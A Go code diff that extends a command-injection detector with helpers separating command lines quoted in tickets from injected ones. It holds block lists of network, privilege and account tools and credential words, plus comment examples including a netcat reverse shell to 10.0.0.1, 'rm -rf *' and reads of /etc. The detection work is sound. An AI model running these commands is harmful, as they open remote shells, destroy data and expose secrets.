@@ -234,6 +234,7 @@ func cmdScan(b []byte, cls uint32) hit {
 	// separators stays linear.
 	skipTo := 0
 	paths := pathEnd{at: -1}
+	pipeline := -1 // commandLineLead && !systemReach, read once when needed
 	for i := 0; i <= n; i++ {
 		if i < skipTo {
 			continue
@@ -289,6 +290,17 @@ func cmdScan(b []byte, cls uint32) hit {
 			if e := separatorRunEnd(b, after); e-after > 2*separatorRunJudged {
 				skipTo = e - separatorRunJudged
 			}
+		}
+		if i > 0 && pipeline < 0 {
+			pipeline = 0
+			if commandLineLead(b) && !systemReach(b) {
+				pipeline = 1
+			}
+		}
+		if pipeline == 1 && (b[i-1] == '|' || b[i-1] == '&') && weakStage(b, after) {
+			// a later stage of a command line quoted whole ("git log
+			// --oneline | head -5"): judged with the line, at its start
+			continue
 		}
 		if h, ok := commandAt(b, after, i == 0, &paths); ok {
 			return h
@@ -471,7 +483,7 @@ func commandAt(b []byte, i int, atStart bool, paths *pathEnd) (hit, bool) {
 		// "ping a.com", "net user x") starts prose as often as a command
 		// line ("sleep 5 hours (approx)"): the value must also show shell
 		// syntax somewhere, as the gate (cmdGate) reads it.
-		if argShaped(b, j, w, true) && (strength == cmdStrong || shellSyntax(b)) && !proseTail(b, j, false) {
+		if argShaped(b, j, w, true) && (strength == cmdStrong || shellSyntax(b) && (systemReach(b) || hostTool(w) || closedValue(b))) && !proseTail(b, j, false) {
 			return hit{rule: "cmdi.command", frag: around(b, start, j+24)}, true
 		}
 		return hit{}, false
@@ -516,6 +528,161 @@ func shellSyntax(b []byte) bool {
 				return true
 			}
 		}
+	}
+	return false
+}
+
+// commandLineLead reports a value that starts with a command line: a
+// program's name (toolName) and, before the first operator, an option
+// ("git log --oneline | head -5", "grep -r todo src/ | wc -l"); not a
+// sentence ("use cat file.txt | grep error").
+func commandLineLead(b []byte) bool {
+	k := 0
+	for k < len(b) && isSpace(b[k]) {
+		k++
+	}
+	e := k
+	for e < len(b) && e-k <= 32 && (isIdent(b[e]) || b[e] == '-' || b[e] == '.') {
+		e++
+	}
+	if e == k || e >= len(b) || b[e] != ' ' || !toolName(b[k:e]) || proseWord(b[k:e]) {
+		return false
+	}
+	for ; e < len(b) && e < 256; e++ {
+		switch b[e] {
+		case '|', '&', ';', '\n', '\r', '`':
+			return false
+		case '-':
+			if b[e-1] == ' ' && e+1 < len(b) && (isLetter(b[e+1]) || b[e+1] == '-') {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// weakStage reports a weak command (an English word too, not an
+// interpreter) after blanks at i: the stage of a pipeline that a command
+// line quoted whole has ("| head -5", "&& make").
+func weakStage(b []byte, i int) bool {
+	for i < len(b) && (b[i] == ' ' || b[i] == '|' || b[i] == '&') {
+		i++
+	}
+	e := i
+	for e < len(b) && (isIdent(b[e]) || b[e] == '-') {
+		e++
+	}
+	w := b[i:e]
+	return len(w) > 0 && commandStrength(w) != cmdStrong && interpreter(w) == 0 && !netTool(w)
+}
+
+// systemReach reports a value whose words reach beyond a project's own
+// files: an absolute path into a system directory, a Windows drive path,
+// a dotfile in a home directory (~/.ssh), an IPv4 address, a variable or
+// substitution, a redirection, a UNC path. A command line quoted whole in
+// a ticket works on relative paths and URLs ("tar -xzf release.tar.gz",
+// "kubectl get pods -n prod"); an injected one reaches the host ("ls -l
+// /etc/", "dir c:\users", "nc -e /bin/sh 10.0.0.1 4444").
+func systemReach(b []byte) bool {
+	for k := 0; k < len(b); {
+		for k < len(b) && (isSpace(b[k]) || b[k] == '"' || b[k] == '\'' || b[k] == '=' || b[k] == '(' || b[k] == '+') {
+			k++
+		}
+		e := k
+		for e < len(b) && !isSpace(b[e]) && b[e] != '"' && b[e] != '\'' && b[e] != '+' {
+			e++
+		}
+		if w := b[k:e]; len(w) > 0 && (sysPath(w) || winAbsPath(w) || hasAt(w, 0, "~/.") || hasAt(w, 0, "~root") || ipLike(w) ||
+			len(w) > 2 && isLetter(w[0]) && w[1] == ':' && w[2] == '/' || hasAt(w, 0, "\\\\") || winSwitch(w) ||
+			hasAt(w, 0, "hklm") || hasAt(w, 0, "hkcu") || hasAt(w, 0, "hkey_") || secretWord(w)) {
+			return true
+		}
+		k = e
+	}
+	for _, c := range b {
+		switch c {
+		case '$', '`', '>', '<', '%':
+			return true
+		}
+	}
+	return false
+}
+
+// secretWord reports an argument that names what an attacker reads or
+// destroys on a web host rather than a project's files: a dotfile (.env,
+// .htpasswd, .git/config), a server-side script (index.php, x.jsp), a
+// wildcard alone (rm -rf *), or a search for credentials (grep -r
+// password .).
+func secretWord(w []byte) bool {
+	if len(w) == 1 && w[0] == '*' {
+		return true
+	}
+	if len(w) > 1 && w[0] == '.' && isLetter(w[1]) {
+		return true
+	}
+	if dot := lastIndexByte(w, '.'); dot > 0 {
+		switch string(w[dot+1:]) {
+		case "php", "jsp", "jspx", "asp", "aspx", "cgi", "htpasswd", "htaccess":
+			return true
+		}
+	}
+	for _, s := range [...]string{"passw", "secret", "credential", "private_key", "id_rsa", "shadow"} {
+		if indexFrom(w, s, 0) >= 0 {
+			return true
+		}
+	}
+	return false
+}
+
+// winSwitch reports a cmd.exe switch: '/' and one to eight letters (/add,
+// /v, /all), a word of its own.
+func winSwitch(w []byte) bool {
+	if len(w) < 2 || len(w) > 9 || w[0] != '/' {
+		return false
+	}
+	for _, c := range w[1:] {
+		if !isLetter(c) {
+			return false
+		}
+	}
+	return !sysPath(w)
+}
+
+// hostTool reports the commands that act on the host or another one
+// whatever paths they are given: network tools, privilege, processes,
+// power, accounts and services ("sudo -u root id", "kill -9 1").
+func hostTool(w []byte) bool {
+	if netTool(w) {
+		return true
+	}
+	switch string(w) {
+	case "sudo", "su", "doas", "runas", "pkexec", "kill", "killall", "pkill", "shutdown", "reboot", "halt", "poweroff",
+		"init", "mount", "umount", "chown", "chmod", "chgrp", "passwd", "useradd", "usermod", "crontab", "net", "net1",
+		"reg", "sc", "schtasks", "at", "nohup", "setsid", "timeout", "sleep",
+		// the host's own state: processes, users, environment
+		"ps", "id", "who", "w", "env", "printenv", "last", "history":
+		return true
+	}
+	return false
+}
+
+// closedValue reports a value whose last byte other than a blank is a
+// command separator: a command line closed off ("sleep 5;", "kill -9 1|").
+func closedValue(b []byte) bool {
+	e := len(b)
+	for e > 0 && isSpace(b[e-1]) {
+		e--
+	}
+	return e > 0 && (b[e-1] == ';' || b[e-1] == '|' || b[e-1] == '&')
+}
+
+// netTool reports the commands whose command line reaches another host by
+// what they are given (a URL, a host name): the value reaches beyond the
+// project whatever its paths.
+func netTool(w []byte) bool {
+	switch string(w) {
+	case "curl", "wget", "nc", "ncat", "telnet", "ftp", "tftp", "ping", "nslookup", "dig", "host", "whois", "lynx", "fetch", "scp", "sftp", "rsync":
+		return true
 	}
 	return false
 }
